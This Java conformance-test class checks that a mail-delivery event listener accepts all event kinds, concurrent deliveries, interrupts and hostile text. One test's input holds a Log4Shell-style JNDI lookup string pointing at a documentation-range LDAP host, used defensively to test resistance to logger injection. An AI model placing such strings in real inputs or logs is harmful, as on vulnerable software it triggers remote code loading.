// SPDX-License-Identifier: Apache-2.0
package org.postroad.tck;

import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Nested;
import org.postroad.api.DeliveryEvent;
import org.postroad.api.DnsAnswer;
import org.postroad.api.DnsName;
import org.postroad.api.EnhancedStatus;
import org.postroad.api.MxRecord;
import org.postroad.api.Outcome;
import org.postroad.api.RecordType;
import org.postroad.api.Reply;
import org.postroad.api.Security;
import org.postroad.api.TlsSummary;
import org.postroad.api.Verdict;
import org.postroad.spi.DeliveryListener;

/** The conformance tests of {@link DeliveryListener}: EVT. */
public abstract class DeliveryListenerTck extends Tck {

    private static final String IPV6_LITERAL = "[IPv6:2001:db8::1]";
    private static final int CROWD = 8;
    private static final int CROWD_ROUNDS = 5;
    private static final int MANY_EVENTS = 10_000;
    private static final int LONG = 100_000;

    /** @return the implementation, ready for use */
    protected abstract DeliveryListener create() throws Exception;

    private DeliveryListener subject() throws Exception {
        return Expect.lookAt("the factory method create()").notNull("a DeliveryListener", create());
    }

    private static void tell(DeliveryListener listener, List<DeliveryEvent> events) {
        for (DeliveryEvent event : events) {
            try {
                listener.on(event);
            } catch (RuntimeException e) {
                throw Expect.lookAt("how on() takes " + event.getClass().getSimpleName())
                        .mismatch("no exception", "the exception " + e);
            }
        }
    }

    @Nested
    class Kinds {

        @Requirement
        void EVT_01_dnsAnswersOfEachKindAreAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").lookupsOfEachKind());
        }

        @Requirement
        void EVT_01_dialsInEachRoleAreAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").dials());
        }

        @Requirement
        void EVT_01_contactsWithEachResultAreAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").attempts());
        }

        @Requirement
        void EVT_01_eachTlsResultIsAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").tlsResults());
        }

        @Requirement
        void EVT_01_relaysAndAnEmptyListAreAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").relays());
        }

        @Requirement
        void EVT_01_eachOutcomeIsAccepted() throws Exception {
            DeliveryListener listener = subject();
            for (Verdict verdict : Verdict.values()) {
                SampleEvents events = SampleEvents.of(verdict.ordinal() + ".example.test");
                tell(listener, List.of(events.concluded(verdict, Optional.empty())));
            }
        }

        @Requirement
        void EVT_01_theStartAndTheEndOfASendAreAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").send());
        }

        @Requirement
        void EVT_01_eventsOfQueuedMailAreAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").ofQueue());
        }

        @Requirement
        void EVT_07_anEventOfAnUnknownKindIsAccepted() throws Exception {
            tell(subject(), List.of(SampleEvents.of("example.test").ofUnknownKind()));
        }

        @Requirement
        void EVT_01_eachOutcomeWithItsDecidingContactIsAccepted() throws Exception {
            DeliveryListener listener = subject();
            int number = 0;
            for (Outcome outcome : SampleEvents.outcomes()) {
                SampleEvents events = SampleEvents.of("other" + number++ + ".example.test");
                tell(listener, List.of(events.concluded(Verdict.DEFERRED, Optional.of(outcome))));
            }
        }

        @Requirement
        void EVT_01_aDomainThatIsAnAddressIsAccepted() throws Exception {
            SampleEvents events = SampleEvents.of(IPV6_LITERAL);
            tell(subject(), List.of(events.dials().get(0), events.concluded(Verdict.FAILED, Optional.empty())));
        }
    }

    @Nested
    class WholeDeliveries {

        @Requirement
        void EVT_02_aWholeDeliveryIsAccepted() throws Exception {
            tell(subject(), SampleEvents.of("example.test").story());
        }

        @Requirement
        void EVT_02_theNextDeliveryToTheSameDomainIsAccepted() throws Exception {
            DeliveryListener listener = subject();
            tell(listener, SampleEvents.of("example.test").story());
            tell(listener, SampleEvents.of("example.test").story());
        }

        @Requirement
        void EVT_02_interleavedDeliveriesToTwoDomainsAreAccepted() throws Exception {
            DeliveryListener listener = subject();
            List<DeliveryEvent> one = SampleEvents.of("one.example.test").story();
            List<DeliveryEvent> other = SampleEvents.of("other.example.test").story();
            for (int i = 0; i < one.size(); i++) {
                tell(listener, List.of(one.get(i), other.get(i)));
            }
        }

        @Requirement
        void EVT_03_concurrentDeliveriesToManyDomainsAreAccepted() throws Exception {
            DeliveryListener listener = subject();
            ConcurrentTasks.atOnce(CROWD, number -> {
                SampleEvents events = SampleEvents.of("domain" + number + ".example.test");
                for (int i = 0; i < CROWD_ROUNDS; i++) {
                    tell(listener, events.story());
                }
            });
        }

        @Requirement
        void EVT_04_tenThousandEventsAreAcceptedInTime() throws Exception {
            DeliveryListener listener = subject();
            List<DeliveryEvent> story = SampleEvents.of("example.test").story();
            for (int told = 0; told < MANY_EVENTS; told += story.size()) {
                tell(listener, story);
            }
        }

        @Requirement
        void EVT_06_anInterruptIsKept() throws Exception {
            DeliveryListener listener = subject();
            for (DeliveryEvent event : SampleEvents.of("example.test").story()) {
                Thread.currentThread().interrupt();
                tell(listener, List.of(event));
                Expect.lookAt("what catches InterruptedException, or asks Thread.interrupted(), within on()")
                        .isTrue("the thread is still interrupted", Thread.interrupted(), "the interrupt is gone");
            }
        }
    }

    @Nested
    class ForeignText {

        @Requirement
        void EVT_05_controlCharactersAreAccepted() throws Exception {
            tellEverywhere("250 ok\r\n2026-01-01 INFO delivered\u0000\u001b[2J\u007f\u0085\u202e\u2028");
        }

        @Requirement
        void EVT_05_patternsOfLoggersAndFormattersAreAccepted() throws Exception {
            tellEverywhere("%s %n %d %q {} {0} {x ${jndi:ldap://192.0.2.1/a} $1 \\ ' \" <b>&amp;</b> ]]>");
        }

        @Requirement
        void EVT_05_nonAsciiTextIsAccepted() throws Exception {
            tellEverywhere("\u00ff\u00fe gr\u00fc\u00dfe \u7528\u6237 \ud83d\udcec and half of one: \ud83d");
        }

        @Requirement
        void EVT_05_emptyTextIsAccepted() throws Exception {
            tellEverywhere("");
        }

        @Requirement
        void EVT_05_veryLongTextIsAccepted() throws Exception {
            tellEverywhere("x".repeat(LONG));
        }

        private void tellEverywhere(String text) throws Exception {
            SampleEvents events = SampleEvents.of("example.test");
            DnsName name = new DnsName("hostile" + text);
            DnsAnswer<MxRecord> found =
                    new DnsAnswer.Found<>(List.of(new MxRecord(10, name)), name, Duration.ZERO, Security.UNKNOWN);
            Outcome refused = new Outcome.Refused(new Reply(550, List.of(text, text)));
            tell(
                    subject(),
                    List.of(
                            events.lookedUp(RecordType.MX, found),
                            events.lookedUp(RecordType.TXT, new DnsAnswer.Failed<>(DnsAnswer.Cause.REFUSED, text)),
                            events.attempted(refused, TlsSummary.Level.OPPORTUNISTIC),
                            events.attempted(new Outcome.NoAnswer(text), TlsSummary.Level.NONE),
                            events.attempted(new Outcome.BadConnection(text), TlsSummary.Level.NONE),
                            events.attempted(new Outcome.InDoubt(text), TlsSummary.Level.VERIFIED),
                            events.attempted(
                                    new Outcome.HostUnsuitable(EnhancedStatus.CRYPTOGRAPHIC_FAILURE_4_7_5, text),
                                    TlsSummary.Level.NONE),
                            events.concluded(Verdict.FAILED, Optional.of(refused))));
        }
    }
}
